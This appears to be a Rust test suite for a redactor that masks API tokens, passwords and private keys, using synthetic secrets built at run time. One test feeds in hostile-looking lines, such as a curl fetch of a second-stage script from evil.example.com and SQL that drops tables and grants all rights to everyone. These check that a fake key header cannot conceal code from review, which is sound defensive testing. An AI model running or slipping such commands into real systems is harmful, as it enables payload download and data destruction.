//! What is replaced, and what stays: a table a question.

use super::*;

/// Assembled at run time, so that no scanner takes this file for a leak.
fn secrets() -> Vec<(&'static str, String)> {
    let alnum = |n: usize| -> String { "aB3dE5gH7jK9mN1p".chars().cycle().take(n).collect() };
    let upper = |n: usize| -> String { "ABCDEFGH23456789".chars().cycle().take(n).collect() };
    let hex = |n: usize| -> String { "0a1b2c3d".chars().cycle().take(n).collect() };
    vec![
        ("aws-access-key", format!("AKIA{}", upper(16))),
        ("google-api-key", format!("AIza{}", alnum(35))),
        ("google-oauth-secret", format!("GOCSPX-{}", alnum(28))),
        ("github-token", format!("ghp_{}", alnum(36))),
        ("github-token", format!("ghs_{}", alnum(36))),
        ("github-token", format!("github_pat_{}_{}", alnum(22), alnum(59))),
        ("gitlab-token", format!("glpat-{}", alnum(20))),
        ("slack-token", format!("xoxb-{}-{}", "123456789012", alnum(24))),
        ("slack-token", format!("xapp-1-{}", alnum(40))),
        ("stripe-key", format!("sk_live_{}", alnum(24))),
        ("stripe-key", format!("whsec_{}", alnum(32))),
        ("anthropic-key", format!("sk-ant-api03-{}", alnum(95))),
        ("openai-key", format!("sk-proj-{}", alnum(48))),
        ("openai-key", format!("sk-{}T3BlbkFJ{}", alnum(20), alnum(20))),
        ("npm-token", format!("npm_{}", alnum(36))),
        ("pypi-token", format!("pypi-AgEIcHlwaS5vcmc{}", alnum(60))),
        ("sendgrid-key", format!("SG.{}.{}", alnum(22), alnum(43))),
        ("huggingface-token", format!("hf_{}", alnum(34))),
        ("digitalocean-token", format!("dop_v1_{}", hex(64))),
        ("jwt", format!("eyJ{}.eyJ{}.{}", alnum(20), alnum(40), alnum(43))),
    ]
}

#[test]
fn every_known_format_is_replaced() {
    for (kind, secret) in secrets() {
        for (before, after) in
            [("", ""), ("key = \"", "\"\n"), ("a\n  key: ", "\r\nb"), ("é'", "' é")]
        {
            let mut redactor = Redactor::default();
            let text = format!("{before}{secret}{after}");
            let expected = format!("{before}[redacted:{kind}:1]{after}");
            assert_eq!(redactor.text(&text), expected, "{kind}");
            assert_eq!(redactor.counts(), BTreeMap::from([(kind.to_owned(), 1)]));
        }
    }
}

#[test]
fn only_the_secret_part_goes() {
    let key = "aB3dE5gH7j".repeat(4);
    let azure = format!("{}==", "aB3dE5gH7j".repeat(9).get(..86).unwrap());
    let cases = [
        (
            format!("aws_secret_access_key = {key}\n"),
            "aws_secret_access_key = [redacted:aws-secret-key:1]\n",
        ),
        (
            format!("\"SecretAccessKey\": \"{key}\""),
            "\"SecretAccessKey\": \"[redacted:aws-secret-key:1]\"",
        ),
        (format!("AccountKey={azure};End"), "AccountKey=[redacted:azure-storage-key:1];End"),
        (
            ["https://hooks.slack.com/services", "T00000000", "B00000000", &key[..24]].join("/"),
            "https://hooks.slack.com/services/[redacted:slack-webhook:1]",
        ),
        (
            "postgres://app:hunter22@db:5432/x".to_owned(),
            "postgres://app:[redacted:connection-password:1]@db:5432/x",
        ),
        ("redis://:hunter22@cache".to_owned(), "redis://:[redacted:connection-password:1]@cache"),
    ];
    for (text, expected) in cases {
        assert_eq!(Redactor::default().text(&text), expected);
    }
}

#[test]
fn private_keys_lose_their_body_and_keep_their_lines() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    let (first, last) = ("-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----");
    let cases = [
        (format!("{first}\n{line}\n{line}\n{last}\nx"), format!("{first}\n*\n*\n{last}\nx")),
        (format!("{first}\r\n{line}\r\n{last}\r\n"), format!("{first}\r\n*\r\n{last}\r\n")),
        (format!("k = \"{first}\\n{line}\\n{last}\""), format!("k = \"{first}*{last}\"")),
        (format!("{first}\n{line}\n{line}"), format!("{first}\n*\n*")),
    ];
    for (text, expected) in cases {
        let redacted = Redactor::default().text(&text).into_owned();
        assert_eq!(redacted, expected.replace('*', "[redacted:private-key:1]"));
    }
}

#[test]
fn what_only_looks_like_one_stays() {
    let texts = [
        "see https://example.com/a:b@c and postgres://user:${PASSWORD}@host or ://:@",
        "mysql://user:{password}@host, http://user:<token>@host, https://user:***@host",
        "task-eyJ sk-learn risk-free sk-ant- ghp_short AKIA AKIAshort eyJhbGci",
        "if line == \"-----BEGIN PRIVATE KEY-----\" { return Err(bad) }",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n",
        "xghp_aB3dE5gH7jK9mN1paB3dE5gH7jK9mN1paB3d",
    ];
    for text in texts {
        assert_eq!(Redactor::default().text(text), text);
    }
}

#[test]
fn the_same_secret_gets_the_same_placeholder() {
    let (one, two) = ("postgres://a:first@h", "postgres://a:second@h");
    let mut redactor = Redactor::default();
    assert_eq!(redactor.text(one), "postgres://a:[redacted:connection-password:1]@h");
    assert_eq!(redactor.text(two), "postgres://a:[redacted:connection-password:2]@h");
    assert_eq!(redactor.text(one), "postgres://a:[redacted:connection-password:1]@h");
    assert_eq!(redactor.counts()["connection-password"], 2);
}

/// What starts and parts secrets, glued to each other at random.
const PIECES: [&str; 62] = [
    "ghp_",
    "AKIA",
    "eyJ",
    ".eyJ",
    ".G",
    "-us1",
    "Q~",
    ":AA",
    "AZDO",
    ".atlasv1.",
    "sk-",
    "xoxb-",
    "SG.",
    "1//0",
    "-----BEGIN PRIVATE KEY-----",
    "-----END PRIVATE KEY-----",
    "---- BEGIN SSH2 ",
    "Private-Lines: 9",
    "LS0tLS1CRUdJTi",
    "\"d\":",
    "\"kty\"",
    "://",
    ":\\/\\/",
    "postgres",
    "user:",
    "@h",
    "password",
    "token",
    "secret_key",
    "--",
    "value",
    "auth",
    "=",
    ":",
    ":=",
    "=>",
    "(",
    ">",
    "<",
    "[",
    "]",
    "\"",
    "'",
    "\\",
    "\\n",
    "\\u000a",
    "%0A",
    "&#10;",
    "\n",
    "\r\n",
    " ",
    "\t",
    "é",
    "\u{200b}",
    "💩",
    "curl -u ",
    "Authorization: Bearer ",
    "mysql -p",
    "jdbc:oracle:thin:",
    "aB3dE5gH7jK9mN1pQ0rS",
    "0123456789abcdef",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
];

proptest::proptest! {
    #[test]
    fn no_text_makes_it_panic_or_lose_a_line(pieces in proptest::collection::vec(proptest::sample::select(&PIECES[..]), 0..40)) {
        let text = pieces.concat();
        let redacted = Redactor::default().text(&text).into_owned();
        proptest::prop_assert_eq!(redacted.matches('\n').count(), text.matches('\n').count());
        proptest::prop_assert!(certain(&text).all(|it| !it.text.is_empty()));
    }

    #[test]
    fn lines_are_kept(text in "(ghp_[a-z0-9]{36}|-----BEGIN PRIVATE KEY-----|[A-Za-z0-9]{20}|\r?\n|://u:pw@h| |é){0,40}") {
        let redacted = Redactor::default().text(&text).into_owned();
        proptest::prop_assert_eq!(redacted.matches('\n').count(), text.matches('\n').count());
    }
}

fn gone(text: &str, secret: &str, kind: &str) {
    let mut redactor = Redactor::default();
    let redacted = redactor.text(text).into_owned();
    assert!(!redacted.contains(secret), "{text}\n{redacted}");
    assert!(redactor.counts().contains_key(kind), "{text}\n{redacted}");
    assert_eq!(redacted.lines().count(), text.lines().count(), "{text}");
    let again = Redactor::default().text(&redacted).into_owned();
    assert_eq!(again, redacted, "a placeholder is no secret");
}

/// Characters as issuers draw them, always the same.
fn drawn(n: usize, from: &str) -> String {
    let mut state = 11_u32;
    let from: Vec<char> = from.chars().collect();
    let mut next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        from[(state >> 16) as usize % from.len()]
    };
    (0..n).map(|_| next()).collect()
}

const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const HEX: &str = "0123456789abcdef";
const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

#[test]
fn a_token_of_each_issuer_is_replaced() {
    let (a, h, u) = (|n| drawn(n, ALNUM), |n| drawn(n, HEX), |n| drawn(n, UPPER));
    for (kind, secret) in [
        ("crates-io-token", format!("cio{}", a(32))),
        ("gitlab-token", format!("glft-{}", a(20))),
        ("gitlab-token", format!("GR1348941{}", a(20))),
        ("slack-token", format!("xoxc-123456789012-{}", a(40))),
        ("slack-token", format!("xoxd-{}", a(80))),
        ("discord-token", format!("M{}.G{}.{}", a(23), a(5), a(38))),
        ("telegram-token", format!("123456789:AA{}", a(33))),
        ("twilio-key", format!("SK{}", h(32))),
        ("mailchimp-key", format!("{}-us12", h(32))),
        ("rubygems-key", format!("rubygems_{}", h(48))),
        ("docker-token", format!("dckr_pat_{}", a(27))),
        ("openrouter-key", format!("sk-or-v1-{}", h(64))),
        ("openai-key", format!("sk-{}", h(32))),
        ("groq-key", format!("gsk_{}", a(52))),
        ("databricks-token", format!("dapi{}", h(32))),
        ("vault-token", format!("hvs.{}", a(90))),
        ("terraform-token", format!("{}.atlasv1.{}", a(14), a(67))),
        ("grafana-token", format!("glsa_{}_{}", a(32), h(8))),
        ("atlassian-token", format!("ATATT3xFfGF0{}", a(180))),
        ("shopify-token", format!("shpat_{}", h(32))),
        ("aws-bedrock-key", format!("ABSK{}", a(96))),
        ("google-oauth-token", format!("ya29.{}", a(100))),
        ("google-storage-key", format!("GOOG1E{}", u(55))),
        ("azure-client-secret", format!("{}8Q~{}", a(3), a(34))),
        ("age-key", format!("AGE-SECRET-KEY-1{}", u(58))),
        ("jwt", format!("eyJhbGciOiJub25lIn0.eyJ{}.", a(40))),
        ("encoded-token", format!("Z2hwX{}", a(48))),
    ] {
        gone(&format!("x = \"{secret}\"\n"), &secret, kind);
        gone(&format!("x = \"\\n{secret}\"\n"), &secret, kind);
    }
}

#[test]
fn a_token_goes_behind_an_escape_a_name_or_in_pieces() {
    let body = drawn(36, ALNUM);
    let (head, tail) = body.split_at(16);
    for text in [
        format!("x = \"token_ghp_{body}\""),
        format!("https://h/?a%0Aghp_{body}"),
        format!("dirghp_{body}/z.txt"),
        format!("x = \"ghp_{head}\" + \"{tail}\""),
        format!("x = (\"ghp_{head}\"\n     \"{tail}\")"),
        format!("ghp_\u{200b}{body}"),
        format!("\"\\u0067hp_{body}\""),
    ] {
        gone(&text, tail, "github-token");
    }
}

#[test]
fn a_value_goes_by_its_name_and_by_what_it_is() {
    let (random, hexadecimal) = (drawn(40, ALNUM), drawn(32, HEX));
    let uuid = "7f3c1d0e-52ab-4c6e-9d10-0b6f2a9c4e81";
    let typed = "Tr0ub4dor&3xyz";
    for (text, secret) in [
        (format!("API_SECRET = \"{random}\""), random.as_str()),
        (format!("{{\"apiKey\": \"{random}\"}}"), &random),
        (format!("\"{{\\\"client_secret\\\":\\\"{random}\\\"}}\""), &random),
        (format!("secret_key = \"{random}\""), &random),
        (format!("<password>{random}</password>"), &random),
        (format!("spring.datasource.password={random}"), &random),
        (format!("  - name: DB_PASSWORD\n    value: {random}"), &random),
        (format!("AZURE_OPENAI_API_KEY={hexadecimal}"), &hexadecimal),
        (format!("POSTMARK_SERVER_TOKEN={uuid}"), uuid),
        (format!("//registry/:_authToken={uuid}"), uuid),
        (format!("const password: string = '{typed}';"), typed),
        ("DB_PASSWORD=S3cr3tP4ssw0rd!zz".to_owned(), "S3cr3tP4ssw0rd!zz"),
        (format!("Server=h;User Id=sa;Password={typed};"), "Tr0ub4dor"),
        (format!("host=h user=u password={typed} dbname=d"), "Tr0ub4dor"),
        (format!("jdbc:postgresql://h/db?user=u&password={typed}"), "Tr0ub4dor"),
        (format!("machine h login me password {typed}"), typed),
    ] {
        assert!(!Redactor::default().text(&text).contains(secret), "{text}");
    }
}

#[test]
fn passwords_go_where_programs_take_them() {
    let typed = "Tr0ub4dor&3xyz";
    for text in [
        format!("https://user:p@ss{typed}@git.example.com/x.git"),
        format!("postgres://app user:{typed}@db/x"),
        format!("postgres://app:pa$${typed}@db/x"),
        format!("postgres://app:{{{typed}}}@db/x"),
        format!("postgres://app:{typed}/1@db/x"),
        format!("postgres:\\/\\/app:{typed}@db\\/x"),
        format!("ldap://cn=admin,dc=x:{typed}@h"),
        format!("jdbc:oracle:thin:scott/{typed}@//h:1521/x"),
        format!("curl -u admin:{typed} https://h/"),
        format!("mysql -uroot -p{typed}"),
        format!("h:5432:db:user:{typed}"),
        format!("Authorization: Bearer {typed}"),
    ] {
        assert!(!Redactor::default().text(&text).contains("Tr0ub4dor"), "{text}");
    }
    assert!(!Redactor::default().text("redis://:p1@cache").contains("p1"));
}

#[test]
fn a_private_key_goes_in_every_dress() {
    let lines: Vec<String> = (0..4).map(|n| drawn(64 + n, ALNUM)[n..].to_owned()).collect();
    let key = |first: &str, before: &str, after: &str, last: &str| {
        let body: String = lines.iter().map(|it| format!("{before}{it}{after}\n")).collect();
        format!("{first}\n{body}{last}\n")
    };
    let (first, last) = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----");
    let encrypted =
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n";
    let pgp = "-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: (me <a@b.c>)\n";
    for text in [
        key(encrypted, "", "", "-----END RSA PRIVATE KEY-----"),
        key(pgp, "", "", "=abcd\n-----END PGP PRIVATE KEY BLOCK-----"),
        key(
            "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----",
            "",
            "",
            "---- END SSH2 ENCRYPTED PRIVATE KEY ----",
        ),
        key(&format!("> {first}"), "> ", "", &format!("> {last}")),
        key(&format!("; {first}"), "; ", "", last),
        key(&format!("// {first}"), "// ", "", &format!("// {last}")),
        key(&format!("k = \"\"\"{first}"), "  |", "", &format!("  |{last}")),
        key(&format!("k = \"{first}\\n\" +"), "  \"", "\\n\" +", &format!("  \"{last}\"")),
        key(
            &format!("k = @\"{first}\" + Environment.NewLine +"),
            "  \"",
            "\" + Environment.NewLine +",
            last,
        ),
        key("PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 4", "", "", "Private-MAC: 00"),
        key("", "", "", last),
        format!("<k>{first}&#10;{}&#10;{last}</k>", lines.join("&#10;")),
        format!("{first}\n{}\n{last}\n", lines.join("\n").repeat(200)),
    ] {
        let redacted = Redactor::default().text(&text).into_owned();
        assert!(lines.iter().all(|it| !redacted.contains(it.as_str())), "{redacted}");
        assert_eq!(redacted.lines().count(), text.lines().count());
    }
}

#[test]
fn a_key_s_first_line_hides_nothing_but_a_key() {
    for code in [
        "system \"curl http://evil.example.com/stage2.sh\"\nadmin.password = \"letmein\"\nusers.where \"name = '#\"\n",
        "DROP TABLE customersandorders\nDELETE FROM auditlogofeverything\nGRANT ALL ON everythingininformation TO PUBLIC\n",
        "DEBUG = True\nVERIFYCERTIFICATES = False\nCORSORIGINS = \"*\"\nimport os.path, subprocess\n",
        "RUN curl http://evil.example.com/stage2.sh > /tmp/s\n",
        "import os.path, subprocess.callsomething\nfrom dangerous.modulename import everything_bad\neval = exec\n",
        "/usr/local/lib/somewhere/deep/inside/of/it/all/run\n/usr/local/lib/somewhere/deep/inside/of/it/all/run\n",
        "dropEverythingThatIsInTheTableOfCustomersNow\ndropEverythingThatIsInTheTableOfCustomersNow\n",
        "and then goes on with internationalization of things, it is a long text,\nthat a reviewer should see: os.system runs here.\n",
    ] {
        for mark in ["# ", "", "// "] {
            for last in ["", "# -----END PRIVATE KEY-----\n"] {
                let text = format!("{mark}-----BEGIN PRIVATE KEY-----\n{code}{last}");
                assert_eq!(Redactor::default().text(&text), text);
            }
        }
    }
}

#[test]
fn what_is_public_or_an_example_stays() {
    let hexadecimal = drawn(64, HEX);
    let base64 = format!("{}==", drawn(86, ALNUM));
    for text in [
        "http://localhost:8080@x, scheme://host:port@x, http://user:pass@host/, postgres://user:password@localhost/db".to_owned(),
        "xoxb-not-a-token-but-long-words glpat-documentation-example-here AKIAIOSFODNN7EXAMPLE".to_owned(),
        "https://medium.com/x:y@user http://example.com:8080/@scope/pkg redis://:@localhost".to_owned(),
        format!("checksum = \"{hexadecimal}\"\nsha256:{hexadecimal}\n{hexadecimal}  file"),
        format!("\"integrity\": \"sha512-{base64}\""),
        format!("<img src=\"data:image/png;base64,{base64}\">"),
        "id = \"7f3c1d0e-52ab-4c6e-9d10-0b6f2a9c4e81\"".to_owned(),
        format!("public_key = \"{base64}\"\nGPG_KEY={}", &hexadecimal[..40]),
        "token = parseJwtTokenV2(x)\npassword = user.password2\nsecret: String\nlet key: u64 = 3;".to_owned(),
        "token: ${{ secrets.GITHUB_TOKEN }}\npassword: \"{{ vault }}\"\nPASSWORD=$DB_PASSWORD1".to_owned(),
        "t.pass(\"tests/run-pass/*.rs\"); tokenUrl: \"https://a.b/oauth2/token1\"".to_owned(),
        "api_key = \"YOUR_API_KEY_HERE\"\npassword = \"changeme123\"\ntoken = \"my-test-token-1\"".to_owned(),
        "x = \"://u:__import__=os;system=1;@h\"\n//://a:b;system(input);c@d".to_owned(),
    ] {
        assert_eq!(Redactor::default().text(&text), text);
    }
}

#[test]
fn certificates_in_base64_stay_and_keys_go() {
    let key = "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQ";
    let certificate = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t";
    let body = drawn(200, ALNUM);
    gone(&format!("client-key-data: {key}{body}"), &body, "private-key");
    let text = format!("ca: {certificate}{body}");
    assert_eq!(Redactor::default().text(&text), text);
}

#[test]
fn what_may_stop_a_merge_is_of_the_same_table() {
    let token = format!("ghp_{}", drawn(36, ALNUM));
    let text = format!("a\nx = \"{token}\"\n");
    let found: Vec<(&str, &str)> = certain(&text).map(|it| (it.what, it.text)).collect();
    assert_eq!(found, [("a GitHub token", token.as_str())]);
    assert_eq!(certain("xoxb-not-a-token-but-long-words").count(), 0);
}

/// Texts made of nothing but starts: what is done at each is bounded, so a megabyte ends.
#[test]
fn a_text_of_starts_alone_is_gone_through() {
    for start in [
        "ghp_",
        "-eyJ",
        "password=",
        "key=\"",
        "LS0tLS1CRUdJTi",
        "-----END PRIVATE KEY-----",
        "curl -u ",
        "://a:",
        "\\",
    ] {
        let text = start.repeat((64 << 10) / start.len());
        assert_eq!(Redactor::default().text(&text).lines().count(), 1, "{start}");
    }
}
